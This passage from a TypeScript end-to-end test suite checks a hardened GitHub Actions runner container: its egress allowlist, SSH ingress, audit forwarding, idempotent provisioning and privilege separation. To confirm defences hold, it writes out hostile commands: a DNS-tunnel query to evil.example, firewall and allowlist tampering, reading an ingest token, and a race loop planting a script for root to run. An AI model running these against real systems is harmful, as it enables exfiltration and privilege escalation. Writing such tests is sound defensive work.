      "ok github.com",
      describeRun(r),
      r.status === 0 && r.stdout.trim() === "ok github.com",
    );
    r = asRunner(`curl -ksS --max-time 4 https://${NET.records["github.com"]}/`);
    probes.add(
      g,
      "github.com's address once resolved (the set holds addresses)",
      "connects",
      describeRun(r),
      r.status === 0,
    );
    r = asRunner(`curl -sS --max-time 5 http://${NET.stats}:${NET.statsPort}/healthz`);
    probes.add(
      g,
      "the stats service endpoint",
      "answers",
      describeRun(r),
      r.status === 0 && r.stdout.includes("status"),
    );
    const before = internetRequests().length;
    for (const name of ["evil.example", "notgithub.com", "github.com.evil.example"]) {
      r = asRunner(`dig +time=2 +tries=1 ${name} | grep -o 'status: [A-Z]*'; curl -sS --max-time 4 https://${name}/`);
      probes.add(
        g,
        `HTTPS to ${name} (not allowed)`,
        "NXDOMAIN from dnsmasq, connection fails",
        describeRun(r),
        r.status !== 0 && r.stdout.startsWith("status: NXDOMAIN") && !r.stdout.includes(NET.records[name]!),
      );
    }
    // What a DNS tunnel sends: data in the names of a domain it controls, in TXT (or any other) queries.
    r = asRunner(
      "dig +time=2 +tries=1 TXT c2VjcmV0LWRhdGE.evil.example | grep -o 'status: [A-Z]*'; dig +short +time=2 +tries=1 -x 198.51.100.66",
    );
    probes.add(
      g,
      "DNS tunnel-like TXT query and a reverse lookup",
      "NXDOMAIN, no answer",
      describeRun(r),
      r.stdout.trim() === "status: NXDOMAIN",
    );
    r = asRunner(`curl -ksS --max-time 4 https://${NET.neverResolved}/`);
    probes.add(g, "HTTPS to a raw IP never resolved", "fails", describeRun(r), r.status !== 0);
    r = asRunner(`curl -ksS --max-time 4 https://${NET.records["evil.example"]}/`);
    probes.add(g, "HTTPS to evil.example's raw IP", "fails", describeRun(r), r.status !== 0);
    r = asRunner(`timeout 5 bash -c 'exec 3<>/dev/tcp/${NET.records["github.com"]}/22 && head -c 7 <&3'`);
    probes.add(
      g,
      "TCP 22 to github.com's (allowed) address",
      "fails",
      describeRun(r),
      r.status !== 0 && !r.stdout.includes("SSH"),
    );
    r = asRunner(`curl -sS --max-time 4 http://${NET.stats}:80/`);
    probes.add(g, "the stats host on another port", "fails", describeRun(r), r.status !== 0);
    r = asRunner(`dig +short +time=2 +tries=1 @${NET.otherDns} github.com`);
    probes.add(g, "DNS to another server", "no answer", describeRun(r), !r.stdout.includes(NET.records["github.com"]!));
    r = asRunner(`dig +short +time=2 +tries=1 @${NET.dns} github.com`);
    probes.add(
      g,
      "DNS to the upstream directly (not as dnsmasq)",
      "no answer",
      describeRun(r),
      !r.stdout.includes(NET.records["github.com"]!),
    );
    r = asRunner(`dig +short +tcp +time=2 +tries=1 @${NET.dns} github.com`);
    probes.add(
      g,
      "DNS over TCP to the upstream directly",
      "no answer",
      describeRun(r),
      !r.stdout.includes(NET.records["github.com"]!),
    );
    probeUpstreamQueries(g);
    r = asRunner("dig +short +time=2 +tries=1 AAAA github.com");
    probes.add(
      g,
      "AAAA answers filtered by dnsmasq",
      "(empty)",
      describeRun(r),
      r.status === 0 && r.stdout.trim() === "",
    );
    r = asRunner(`curl -gksS --max-time 4 https://[${NET.v6}]/`);
    probes.add(g, "HTTPS over IPv6 (routed)", "fails", describeRun(r), r.status !== 0);
    r = asRunner(`curl -gksS --max-time 4 https://[${NET.gateway6}]/`);
    probes.add(g, "HTTPS over IPv6 (on-link)", "fails", describeRun(r), r.status !== 0);
    const leaked = internetRequests()
      .slice(before)
      .filter((q) => q.kind === "request" || q.kind === "connect");
    probes.add(
      g,
      "the internet saw none of the refused connections",
      "0 requests",
      `${leaked.length} requests`,
      leaked.length === 0,
    );
    const drops = ct.exec("journalctl -b --no-pager | grep -c cco-egress-drop").stdout.trim();
    probes.add(
      g,
      "drops logged inside the container (kernel log is the host's)",
      "0 lines: not visible in the container",
      `${drops} lines; host net.netfilter.nf_log_all_netns=${readFileSync("/proc/sys/net/netfilter/nf_log_all_netns", "utf8").trim()}`,
      drops === "0",
    );
    expectGroup(g);
  });

  it("the runner user cannot change the rules, the set, dnsmasq or the resolver", function () {
    const g = "tamper (as runner)";
    const state = () =>
      ct.must(
        "iptables-save | grep -v '^#' | sed 's/\\[[0-9]*:[0-9]*\\]//'; ip6tables-save | grep -v '^#' | sed 's/\\[[0-9]*:[0-9]*\\]//'; ipset list -t cco-allow | grep -v -e References -e 'Size in memory' -e 'Number of entries'; cat /etc/dnsmasq.d/cco.conf /etc/resolv.conf; systemctl show -P MainPID dnsmasq.service",
      );
    const before = state();
    const attempts: Array<[string, string]> = [
      ["iptables -F OUTPUT", "iptables -F OUTPUT"],
      ["iptables -P OUTPUT ACCEPT", "iptables -P OUTPUT ACCEPT"],
      ["iptables-legacy -P OUTPUT ACCEPT", "iptables-legacy -P OUTPUT ACCEPT"],
      ["ip6tables -P OUTPUT ACCEPT", "ip6tables -P OUTPUT ACCEPT"],
      ["iptables -F in a user namespace (unshare -r)", "unshare -r iptables -F OUTPUT"],
      ["ipset flush cco-allow", "ipset flush cco-allow"],
      ["ipset add cco-allow evil.example's address", `ipset add cco-allow ${NET.records["evil.example"]}`],
      ["write /etc/dnsmasq.d/cco.conf", "echo 'server=/evil.example/203.0.113.54' >> /etc/dnsmasq.d/cco.conf"],
      ["add /etc/dnsmasq.d/zz-evil.conf", "echo 'ipset=/evil.example/cco-allow' > /etc/dnsmasq.d/zz-evil.conf"],
      ["systemctl restart dnsmasq", "systemctl restart dnsmasq.service </dev/null"],
      ["systemctl stop cco-egress", "systemctl stop cco-egress.service </dev/null"],
      ["kill dnsmasq", "kill -TERM $(pidof dnsmasq)"],
      ["write /etc/resolv.conf", `echo 'nameserver ${NET.dns}' > /etc/resolv.conf`],
      ["write /etc/cco/runner.env", "echo 'EGRESS_EXTRA_CIDRS=0.0.0.0/0' >> /etc/cco/runner.env"],
      ["write /opt/cco/egress.sh", "echo 'exit 0' >> /opt/cco/egress.sh"],
      ["replace a job hook", "cp /bin/true /opt/cco/job-started.sh"],
      ["read the ingest token", "cat /etc/cco/ingest-token"],
      ["add an address to eth0", "ip addr add 192.0.2.99/24 dev eth0"],
      ["become root with sudo", "sudo -n true"],
    ];
    for (const [name, script] of attempts) {
      const r = ct.exec(script, { user: "runner" });
      probes.add(g, name, "refused", describeRun(r), r.status !== 0);
    }
    const groups = ct.must("id -nG runner").trim();
    probes.add(g, "runner's groups", "runner only (no sudo, adm, docker)", groups, groups === "runner");
    const stateAfter = state();
    probes.add(
      g,
      "rules, set, dnsmasq config and process unchanged",
      "unchanged",
      stateAfter === before ? "unchanged" : "CHANGED",
      stateAfter === before,
    );
    const r = ct.exec("curl -sS --max-time 4 https://evil.example/", { user: "runner" });
    probes.add(g, "evil.example still blocked afterwards", "fails", describeRun(r), r.status !== 0);
    expectGroup(g);
  });

  it("ingress: SSH only from the admin CIDR", function () {
    const g = "ingress";
    let r = connectFromInternet(NET.container, 22);
    probes.add(
      g,
      `SSH from the admin address ${NET.gateway}`,
      "sshd banner",
      r.stdout,
      r.stdout.startsWith("connected: SSH-2.0-OpenSSH"),
    );
    r = connectFromInternet(NET.container, 22, NET.outsider);
    probes.add(g, `SSH from ${NET.outsider} (outside the admin CIDR)`, "fails", r.stdout, r.status !== 0);
    r = connectFromInternet(NET.container, 53);
    probes.add(g, "DNS (TCP 53) of the container from the admin address", "fails", r.stdout, r.status !== 0);
    expectGroup(g);
  });

  it("job hooks append audit events to the spool, and the forwarder delivers them to the stats service", function () {
    const g = "job hooks and forwarder";
    const job = {
      GITHUB_REPOSITORY: "brentley/cco",
      GITHUB_WORKFLOW: "build",
      GITHUB_JOB: "test",
      GITHUB_RUN_ID: "987654",
      GITHUB_RUN_ATTEMPT: "2",
      GITHUB_ACTOR: "octocat",
      GITHUB_SHA: "0123456789abcdef0123456789abcdef01234567",
      GITHUB_REF: "refs/heads/main",
      GITHUB_EVENT_NAME: "push",
      RUNNER_NAME: "runner-01",
    };
    // As the runner does: the job's Worker log in _diag (its first lines and the job message as
    // src/Runner.Worker/Program.cs and Worker.cs v2.329.0 write them), then the hooks, as runner.
    const worker = "/home/runner/actions-runner/_diag/Worker_20261126-180000-utc.log";
    const workerLine = (source: string, message: string) => `[2026-11-26 18:00:00Z INFO ${source}] ${message}`;
    ct.must(`cat > ${worker}`, {
      user: "runner",
      input: [
        workerLine("Worker", "Version: 2.329.0"),
        workerLine("Worker", "Job message:"),
        " {",
        '  "jobDisplayName": "test (linux)"',
        " }",
        "",
      ].join("\n"),
    });
    let r = ct.exec("/opt/cco/job-started.sh", { user: "runner", env: job });
    probes.add(g, "job-started.sh as runner", "exit 0", describeRun(r), r.status === 0);
    // The job's state after a failed step (src/Runner.Worker/StepsRunner.cs v2.329.0).
    ct.must(`cat >> ${worker}`, {
      user: "runner",
      input: `${workerLine("StepsRunner", "Step result: Failed")}\n${workerLine("StepsRunner", "Current state: job state = 'Failed'")}\n`,
    });
    r = ct.exec("/opt/cco/job-completed.sh", { user: "runner", env: job });
    probes.add(g, "job-completed.sh as runner", "exit 0", describeRun(r), r.status === 0);
    r = ct.exec("/opt/cco/job-hook.sh started", { user: "runner", env: { ...job, CCO_SPOOL: "/nonexistent/spool" } });
    probes.add(g, "a hook that cannot write never fails the job", "exit 0", describeRun(r), r.status === 0);
    const lines = ct
      .must("tail -n 2 /var/spool/cco/events.jsonl")
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    const expected = {
      runner: "runner-01",
      repo: "brentley/cco",
      workflow: "build",
      job: "test (linux)",
      runId: 987654,
      runAttempt: 2,
      actor: "octocat",
      sha: job.GITHUB_SHA,
      ref: "refs/heads/main",
      event: "push",
    };
    const matches = (e: Record<string, unknown>) => Object.entries(expected).every(([k, v]) => e[k] === v);
    probes.add(
      g,
      "spool: job_started with repo, workflow, run, attempt, actor, sha, ref, event, runner",
      "all fields",
      JSON.stringify(lines[0]),
      lines[0]?.type === "job_started" && matches(lines[0]),
    );
    probes.add(
      g,
      "spool: job_completed, result from the job's state line",
      "result failed",
      JSON.stringify(lines[1]),
      lines[1]?.type === "job_completed" && lines[1]?.result === "failed" && matches(lines[1]),
    );
    r = ct.exec("echo forged >> /var/spool/cco/events.jsonl && echo appended", { user: "runner" });
    probes.add(
      g,
      "runner may append to the spool (the hooks run as runner)",
      "appends",
      describeRun(r),
      r.status === 0,
    );

    // Every process's command line is public in /proc: a curl first on the unit's PATH records the forwarder's.
    r = ct.exec("cat /proc/1/cmdline | tr '\\0' ' '", { user: "runner" });
    probes.add(
      g,
      "runner can read the command line of root's processes (/proc/1/cmdline)",
      "readable: argv is public",
      describeRun(r),
      r.status === 0 && r.stdout.trim() !== "",
    );
    ct.must(
      [
        "cat > /usr/local/bin/curl <<'SHIM'",
        "#!/bin/sh",
        "printf '%s\\n' \"$@\" >> /root/curl-argv",
        'exec /usr/bin/curl "$@"',
        "SHIM",
        "chmod 755 /usr/local/bin/curl; rm -f /root/curl-argv",
      ].join("\n"),
    );
    r = ct.exec("systemctl start cco-forwarder.service; systemctl show -P Result cco-forwarder.service", {
      timeoutMs: 60_000,
    });
    probes.add(
      g,
      "cco-forwarder.service run (as its timer does)",
      "success (the forged line skipped)",
      describeRun(r),
      r.stdout.trim() === "success",
    );
    const curlArgv = ct.exec("cat /root/curl-argv; rm -f /usr/local/bin/curl /root/curl-argv").stdout;
    probes.add(
      g,
      "the forwarder's curl command lines carry no ingest token (the header comes from a 0600 file)",
      "-H @file, no token",
      curlArgv
        .split("\n")
        .filter((a) => a.startsWith("@") || a.startsWith("http"))
        .join(" "),
      curlArgv.includes("\n-H\n@/") &&
        curlArgv.includes("/api/events") &&
        !curlArgv.includes(INGEST_TOKEN) &&
        !curlArgv.includes("Bearer"),
    );
    const stored = storedEvents();
    const got = stored
      .filter((e) => e.runId === 987654)
      .map((e) => `${String(e.type)}${typeof e.result === "string" ? `(${e.result})` : ""}`);
    probes.add(
      g,
      "the stats service stored both events with the audit fields",
      "job_started, job_completed(failed)",
      got.join(", "),
      got.join(",") === "job_started,job_completed(failed)" && stored.filter((e) => e.runId === 987654).every(matches),
    );
    probes.add(
      g,
      "and a heartbeat of runner-01",
      "heartbeat",
      stored
        .filter((e) => e.type === "heartbeat")
        .map((e) => e.runner)
        .join(","),
      stored.some((e) => e.type === "heartbeat" && e.runner === "runner-01"),
    );
    const offset = ct.must("cat /var/lib/cco/spool.offset; stat -c %s /var/spool/cco/events.jsonl").trim().split("\n");
    probes.add(
      g,
      "the forwarder's offset reached the end of the spool",
      "offset = size",
      offset.join(" / "),
      offset[0] === offset[1],
    );

    // The spool is group-writable for the hooks, so a job can also empty it: what was not forwarded yet is lost.
    r = ct.exec(": > /var/spool/cco/events.jsonl && stat -c %s /var/spool/cco/events.jsonl", { user: "runner" });
    probes.add(
      g,
      "runner can also truncate the spool (a limit: unforwarded events can be erased)",
      "truncated to 0",
      describeRun(r),
      r.status === 0 && r.stdout.trim() === "0",
    );
    r = ct.exec("chattr +a /var/spool/cco/events.jsonl");
    probes.add(
      g,
      "root in the container cannot make the spool append-only (chattr +a)",
      "refused: no CAP_LINUX_IMMUTABLE in a user namespace",
      describeRun(r),
      r.status !== 0,
    );
    ct.must("/opt/cco/job-started.sh", { user: "runner", env: { ...job, GITHUB_RUN_ID: "987655" } });
    r = ct.exec(
      "systemctl start cco-forwarder.service; systemctl show -P Result cco-forwarder.service; journalctl -b -u cco-forwarder --no-pager | grep -c 'shrank below'",
      { timeoutMs: 60_000 },
    );
    probes.add(
      g,
      "the forwarder notices the shorter spool and sends what came after",
      "success, run 987655 stored",
      describeRun(r),
      r.stdout.startsWith("success") && storedEvents().some((e) => e.runId === 987655),
    );
    expectGroup(g);
  });

  it("sshd -t on the rendered sshd config, and systemd-analyze verify on every unit", function () {
    const g = "config checks";
    let r = ct.exec("sshd -t");
    probes.add(g, "sshd -t with 50-cco.conf", "exit 0", describeRun(r), r.status === 0);
    const eff = ct.must("sshd -T").toLowerCase();
    for (const [k, v] of [
      ["passwordauthentication", "no"],
      ["kbdinteractiveauthentication", "no"],
      ["permitrootlogin", "without-password"],
      ["maxauthtries", "3"],
      ["loglevel", "verbose"],
      ["allowtcpforwarding", "no"],
      ["x11forwarding", "no"],
      ["permittunnel", "no"],
    ]) {
      const line = eff.split("\n").find((l) => l.startsWith(`${k} `)) ?? "(missing)";
      probes.add(g, `sshd effective ${k}`, `${k} ${v}`, line, line === `${k} ${v}`);
    }
    for (const unit of readdirSync(join(FILES, "units"))) {
      r = ct.exec(`systemd-analyze verify /etc/systemd/system/${unit}`);
      const ownWarnings = (r.stdout + r.stderr).split("\n").filter((l) => l.includes(unit.replace(/\.[a-z]+$/, "")));
      probes.add(
        g,
        `systemd-analyze verify ${unit}`,
        "exit 0, no warnings about it",
        describeRun(r),
        r.status === 0 && ownWarnings.length === 0,
      );
    }
    expectGroup(g);
  });

  it("kernel audit does not work in the unprivileged container (what really happens)", function () {
    const g = "kernel audit";
    let r = ct.exec("auditctl -s");
    probes.add(
      g,
      "auditctl -s",
      "exit 0, prints nothing (no status: the kernel refuses the container)",
      describeRun(r),
      r.status === 0 && r.stdout.trim() === "",
    );
    r = ct.exec("auditctl -w /etc/passwd -p wa -k cco-e2e");
    probes.add(g, "auditctl -w /etc/passwd (add a rule)", "exit 0 while doing nothing", describeRun(r), r.status === 0);
    r = ct.exec("auditctl -l");
    probes.add(
      g,
      "auditctl -l (list rules)",
      "fails: 'The audit system is disabled', no rule",
      describeRun(r),
      r.status !== 0 && !r.stdout.includes("cco-e2e"),
    );
    r = ct.exec(
      "systemctl is-active auditd.service; journalctl -b -u auditd.service --no-pager | grep auditd | tail -n 1",
    );
    probes.add(g, "auditd.service", "not active (fails at start)", describeRun(r), !r.stdout.startsWith("active"));
    expectGroup(g);
  });

  it("provisioning a second time changes nothing", function () {
    const g = "idempotence";
    const snapshot = () =>
      ct.must(
        [
          "find /etc/cco /opt/cco /etc/systemd/system /etc/dnsmasq.d /etc/ssh/sshd_config.d /etc/systemd/journald.conf.d /var/cache/cco" +
            " /home/runner/actions-runner -path /home/runner/actions-runner/_diag -prune -o -printf '%p %y %m %u:%g %l\\n' | sort",
          "find /etc/cco /opt/cco /etc/systemd/system /etc/dnsmasq.d /etc/ssh/sshd_config.d /home/runner/actions-runner -path /home/runner/actions-runner/_diag -prune -o -type f -print0 | sort -z | xargs -0 sha256sum",
          "sha256sum /etc/resolv.conf /etc/passwd /etc/group /etc/shadow",
          "iptables-save | grep -v '^#' | sed 's/\\[[0-9]*:[0-9]*\\]//'",
          "ip6tables-save | grep -v '^#' | sed 's/\\[[0-9]*:[0-9]*\\]//'",
          "ipset list -n",
          "for u in cco-egress.service dnsmasq.service actions-runner.service cco-forwarder.timer ssh.service systemd-journald.service; do" +
            " echo $u $(systemctl show -P ActiveState $u) $(systemctl show -P UnitFileState $u) $(systemctl show -P MainPID $u) $(systemctl show -P ActiveEnterTimestampMonotonic $u); done",
        ].join("; "),
      );
    const before = snapshot();
    const r = provision(2);
    probes.add(g, "second provision.sh exits 0", "exit 0", `exit ${r.status}`, r.status === 0);
    const changes = r.stderr.split("\n").filter((l) => CHANGE_WORDS.test(l));
    probes.add(
      g,
      "its log reports no change",
      "no change lines",
      changes.length ? changes.join(" | ") : `only: ${r.stderr.trim().split("\n").join(" | ")}`,
      changes.length === 0,
    );
    const snapAfter = snapshot();
    const diff = snapAfter.split("\n").filter((l) => !before.split("\n").includes(l));
    probes.add(
      g,
      "files, owners, modes, checksums, rules, sets, unit states and PIDs unchanged",
      "unchanged",
      diff.length ? `changed: ${diff.join(" | ")}` : "unchanged",
      diff.length === 0,
    );
    expectGroup(g);
  });

  it("a job cannot reach root through provisioning, outlive the runner, or schedule itself with cron or at", function () {
    const g = "jobs vs root (as runner)";
    const RD = "/home/runner/actions-runner";
    let r = ct.exec("stat -c '%n %U:%G %a' /var/lib/cco /var/lib/cco/runner-version /var/lib/cco/runner-id");
    probes.add(
      g,
      "the version marker and the runner id are root's, in a 0700 directory",
      "root:root 700, 644, 644",
      describeRun(r),
      r.stdout.trim() ===
        "/var/lib/cco root:root 700\n/var/lib/cco/runner-version root:root 644\n/var/lib/cco/runner-id root:root 644",
    );
    for (const f of ["runner-version", "runner-id"]) {
      r = ct.exec(`echo 9999 > /var/lib/cco/${f}`, { user: "runner" });
      probes.add(g, `write /var/lib/cco/${f}`, "refused", describeRun(r), r.status !== 0);
    }
    // The job points .runner at another runner's id, and plants an installdependencies.sh that
    // root would run; a process outside the runner's unit keeps planting it while provisioning unpacks.
    ct.must(`jq '.agentId = 9999' ${RD}/.runner > ${RD}/.runner.new && mv ${RD}/.runner.new ${RD}/.runner`, {
      user: "runner",
    });
    ct.must(
      [
        "cat > /home/runner/evil.sh <<'EVIL'",
        "#!/bin/sh",
        "touch /var/tmp/planted-script-ran-as-$(id -u)",
        "EVIL",
        "chmod 755 /home/runner/evil.sh",
        `cp /home/runner/evil.sh ${RD}/bin/installdependencies.sh`,
      ].join("\n"),
      { user: "runner" },
    );
    // (It waits for the unpacking to replace the planted copy, then plants it again at once.)
    ct.must(
      `nohup bash -c 'while :; do grep -q planted-script ${RD}/bin/installdependencies.sh 2> /dev/null || ` +
        `{ cp /home/runner/evil.sh ${RD}/bin/.plant && mv -f ${RD}/bin/.plant ${RD}/bin/installdependencies.sh; }; done' ` +
        "> /dev/null 2>&1 < /dev/null & echo $! > /home/runner/planter.pid",
      { user: "runner" },
    );
    // A new runner version to unpack (the marker gone, here or where older provisionings kept it), as an upgrade would.
    ct.must(
      `rm -f /var/lib/cco/runner-version ${RD}/.cco-version /var/log/stub-installdependencies.log /var/tmp/planted-script-ran-as-*`,
    );
    const p = provision(3);
    probes.add(
      g,
      "provision.sh re-unpacks the runner (marker removed)",
      "exit 0, unpacked",
      describeRun({
        ...p,
        stdout: "",
        stderr: p.stderr
          .split("\n")
          .filter((l) => l.includes("unpacked"))
          .join(" "),
      }),
      p.status === 0 && p.stderr.includes("unpacked runner"),
    );
    const planted = ct
      .exec(`kill $(cat /home/runner/planter.pid); grep -c planted-script ${RD}/bin/installdependencies.sh`, {
        user: "runner",
      })
      .stdout.trim();
    r = ct.exec("ls /var/tmp/planted-script-ran-as-* 2>&1");
    probes.add(
      g,
      "a planted installdependencies.sh (planted again whenever unpacking replaced it) never ran",
      "not run; planted copy present",
      `${describeRun(r)}; planted copy present: ${planted === "1"}`,
      r.status !== 0 && planted === "1",
    );
    r = ct.exec("cat /var/log/stub-installdependencies.log");
    probes.add(
      g,
      "the tarball's installdependencies.sh ran as root from a root-owned temp dir",
      "uid 0, /tmp/tmp.*/bin/installdependencies.sh",
      describeRun(r),
      /^0 \/tmp\/tmp\.\w+\/bin\/installdependencies\.sh$/.test(r.stdout.trim()),
    );
    probes.add(
      g,
      "the runner id printed for deregistration is the one recorded at registration",
      "runner-id=4242 (not the job's 9999)",
      p.stdout,
      /^runner-id=4242$/m.test(p.stdout),
    );
    ct.must(`jq '.agentId = 4242' ${RD}/.runner > ${RD}/.runner.new && mv ${RD}/.runner.new ${RD}/.runner`, {
      user: "runner",
    });

    // A process a job leaves behind in the runner's cgroup (as a job's background process is).
    r = ct.exec(
      [
        "setpriv --reuid=runner --regid=runner --init-groups sleep 4343 < /dev/null > /dev/null 2>&1 & pid=$!",
        "cg=$(systemctl show -P ControlGroup actions-runner.service)",
        "for d in /sys/fs/cgroup$cg /sys/fs/cgroup/systemd$cg /sys/fs/cgroup/unified$cg; do [ -f $d/cgroup.procs ] && echo $pid 2> /dev/null > $d/cgroup.procs; done",
        "echo $pid > /root/leftover.pid; grep -c actions-runner /proc/$pid/cgroup",
      ].join("\n"),
    );
    probes.add(
      g,
      "a background process as runner in the runner's cgroup",
      "in actions-runner.service's cgroup",
      describeRun(r),
      r.status === 0 && Number(r.stdout.trim()) >= 1,
    );
    r = ct.exec(
      "systemctl stop actions-runner.service; sleep 0.5; ps -o user=,args= -p $(cat /root/leftover.pid) || echo gone; systemctl show -P KillMode actions-runner.service",
    );
    probes.add(
      g,
      "systemctl stop actions-runner leaves nothing of it running (KillMode=mixed)",
      "gone, mixed",
      describeRun(r),
      r.stdout.trim() === "gone\nmixed",
    );
    ct.must("systemctl start actions-runner.service");

    r = ct.exec("crontab -l", { user: "runner" });
    probes.add(
      g,
      "crontab -l",
      "refused: not allowed",
      describeRun(r),
      r.status !== 0 && r.stderr.includes("not allowed"),
    );
    r = ct.exec("echo '* * * * * touch /tmp/cron-ran' | crontab -", { user: "runner" });
    probes.add(
      g,
      "crontab - (install one)",
      "refused: not allowed",
      describeRun(r),
      r.status !== 0 && r.stderr.includes("not allowed"),
    );
    r = ct.exec("echo 'touch /tmp/at-ran' | at now + 1 minute", { user: "runner" });
    probes.add(
      g,
      "at now + 1 minute",
      "refused: no permission",
      describeRun(r),
      r.status !== 0 && r.stderr.includes("permission"),
    );
    r = ct.exec("crontab -l 2>&1; echo 'touch /tmp/at-ran' | at now + 1 hour 2>&1 && atrm $(atq | awk '{print $1}')");
    probes.add(
      g,
      "(root may still use them)",
      "no crontab for root, job queued",
      describeRun(r),
      r.stdout.includes("no crontab for root") && r.status === 0,
    );
    expectGroup(g);
  });

  it("an egress change is applied in place: the runner keeps running, a removed domain stops connecting", function () {
    const g = "egress change (re-provisioning)";
    const asRunner = (script: string) => ct.exec(script, { user: "runner" });
    const dropped = "actions.githubusercontent.com";
    const droppedName = "x.actions.githubusercontent.com";
    let r = asRunner(`curl -sS --max-time 5 https://${droppedName}/ && curl -sS --max-time 5 https://github.com/`);
    probes.add(g, `before: HTTPS to ${droppedName} and github.com`, "both connect", describeRun(r), r.status === 0);
    const before = runnerPid();
    // [open connection across the change] A job's download from the domain, open while the domain is removed.
    const g2 = "open connection across an allowlist change";
    const streamSize = () => Number(ct.exec("stat -c %s /home/runner/stream.out").stdout.trim() || "0");
    ct.must(
      `nohup curl -sSN --max-time 60 https://${droppedName}/stream > /home/runner/stream.out 2>&1 < /dev/null & echo $! > /home/runner/stream.pid`,
      { user: "runner" },
    );
    run("sleep", ["1.5"]);
    const s0 = streamSize();
    run("sleep", ["1"]);
    const s1 = streamSize();
    probes.add(
      g2,
      `a job's download from ${droppedName} streams before the change`,
      "growing",
      `${s0} -> ${s1} bytes`,
      s1 > s0 && s0 > 0,
    );
    // The parameters as the Pulumi program would render them with the domain removed from egressDomains.
    const remote = `/root/${bundleDir.split("/").pop()!}/runner.env`;
    const params = ct
      .must(`cat ${remote}`)
      .split("\n")
      .map((l) =>
        l.startsWith("EGRESS_DOMAINS=")
          ? `EGRESS_DOMAINS=${l
              .slice("EGRESS_DOMAINS=".length)
              .split(" ")
              .filter((d) => d !== dropped)
              .join(" ")}`
          : l,
      );
    ct.must(`cat > ${remote}`, { input: params.join("\n") });
    const p = provision(4);
    probes.add(g, "provision.sh with EGRESS_DOMAINS without " + dropped, "exit 0", `exit ${p.status}`, p.status === 0);
    const after = runnerPid();
    probes.add(
      g,
      "the runner's MainPID is unchanged (its jobs keep running)",
      `${before}`,
      `${before} -> ${after}`,
      after === before && before !== "0",
    );
    const s2 = streamSize();
    run("sleep", ["2"]);
    const s3 = streamSize();
    probes.add(
      g2,
      "the open download stops once the domain is removed (its conntrack entries deleted)",
      "no byte more in 2 s",
      `${s2} -> ${s3} bytes`,
      s3 === s2,
    );
    probes.add(
      g2,
      "provisioning says it closed the removed domain's addresses",
      "closed N addresses of removed domains",
      p.stderr
        .split("\n")
        .filter((l) => l.includes("closed"))
        .join(" ") || "(no such line)",
      /closed [1-9]\d* addresses of removed domains/.test(p.stderr),
    );
    ct.exec("kill $(cat /home/runner/stream.pid) 2> /dev/null; true", { user: "runner" });
    expectGroup(g2);
    r = ct.exec(
      `grep -c '/${dropped}/' /etc/dnsmasq.d/cco.conf; ipset test cco-allow ${NET.records[droppedName]} 2>&1`,
    );
    probes.add(
      g,
      "dnsmasq no longer forwards the domain, its address left the set",
      "0, not in set",
      describeRun(r),
      r.stdout.startsWith("0\n") && r.stdout.includes("is NOT in set"),
    );
    r = asRunner(`curl -sS --max-time 4 https://${droppedName}/`);
    probes.add(g, `HTTPS to ${droppedName}`, "fails (NXDOMAIN)", describeRun(r), r.status !== 0);
    r = asRunner(
      `curl -sS --max-time 4 --resolve ${droppedName}:443:${NET.records[droppedName]} https://${droppedName}/`,
    );
    probes.add(
      g,
      `HTTPS to ${droppedName}'s address (resolved before the change)`,
      "fails",
      describeRun(r),
      r.status !== 0,
    );
    r = asRunner("curl -sS --max-time 5 https://github.com/");
    probes.add(
      g,
      "HTTPS to github.com",
      "ok github.com",
      describeRun(r),
      r.status === 0 && r.stdout.trim() === "ok github.com",
    );
    probeUpstreamQueries(g);
    expectGroup(g);
  });

  it("re-provisioning leaves a working runner alone: a job's edits to .runner and a forwarder unit change do not stop it", function () {
    const g = "runner left running (re-provisioning)";
    const RD = "/home/runner/actions-runner";
    const before = runnerPid();
    // A job removes the runner's own registration file; the forwarder's timer unit changes.
    ct.must(`mv ${RD}/.runner ${RD}/.runner.moved`, { user: "runner" });
    const timer = `/root/${bundleDir.split("/").pop()!}/units/cco-forwarder.timer`;
    ct.must(`sed -i 's/^AccuracySec=.*/AccuracySec=4s/' ${timer}`);
    const p = provision(5);
    probes.add(g, "provision.sh", "exit 0", `exit ${p.status}`, p.status === 0);
    probes.add(
      g,
      "no new registration (registered = the recorded runner id, not .runner)",
      "no 'registered' line, runner-id=4242",
      p.stderr
        .split("\n")
        .filter((l) => /registered|config/.test(l))
        .join(" ") || "(none)",
      !/registered /.test(p.stderr) && /^runner-id=4242$/m.test(p.stdout),
    );
    probes.add(
      g,
      "the forwarder timer restarted for its new unit",
      "restarted cco-forwarder.timer",
      p.stderr.includes("restarted cco-forwarder.timer") ? "restarted" : p.stderr,
      p.stderr.includes("restarted cco-forwarder.timer"),
    );
    const after = runnerPid();
    probes.add(
      g,
      "the runner's MainPID is unchanged",
      before,
      `${before} -> ${after}`,
      after === before && before !== "0",
    );
    ct.must(`mv ${RD}/.runner.moved ${RD}/.runner`, { user: "runner" });
    expectGroup(g);
  });

  // ---- The runner as actions/runner behaves (issue 13): findings 1-3, 5, 6 and 8. ----
  // The stub follows actions/runner v2.329.0 (v2.333.0 for exit code 7) where these
  // probes depend on it; each behaviour cites its source in test/lxc/runner-stub.
  const RD = "/home/runner/actions-runner";
  const STUB = "/var/lib/cco-stub";
  /** The answer the stub listener takes as GitHub's (deleted, version-refused, session-conflict; empty: accepted). */
  const githubAnswers = (answer: string) =>
    ct.must(`install -d -m 755 ${STUB} && printf '%s\\n' '${answer}' > ${STUB}/github`);
  /** A job for the stub listener to take (KEY=value lines: STUB_SECONDS, STUB_RESULT, STUB_GITHUB_PATH, GITHUB_*). */
  const queueJob = (id: string, vars: Record<string, string>) => {
    ct.must(`install -d -m 755 ${STUB} && install -d -m 755 -o runner -g runner ${STUB}/queue`);
    ct.must(
      `cat > ${STUB}/queue/.${id} && chown runner:runner ${STUB}/queue/.${id} && mv ${STUB}/queue/.${id} ${STUB}/queue/${id}.job`,
      {
        input: Object.entries(vars)
          .map(([k, v]) => `${k}=${v}\n`)
          .join(""),
      },
    );
  };
  const waitIn = (what: string, script: string, seconds: number) => {
    const r = ct.exec(`timeout ${seconds} bash -c '${script.replace(/'/g, "'\\''")}'`, {
      timeoutMs: (seconds + 10) * 1000,
    });
    return { ok: r.status === 0, what, out: describeRun(r) };
  };
  const unitProps = (props: string[]) =>
    Object.fromEntries(
      ct
        .must(`systemctl show ${props.map((p) => `-p ${p}`).join(" ")} actions-runner.service`)
        .trim()
        .split("\n")
        .map((l) => [l.slice(0, l.indexOf("=")), l.slice(l.indexOf("=") + 1)]),
    );
  /** Runs the forwarder now and returns the newest heartbeat the stats service stored. */
  const heartbeatNow = () => {
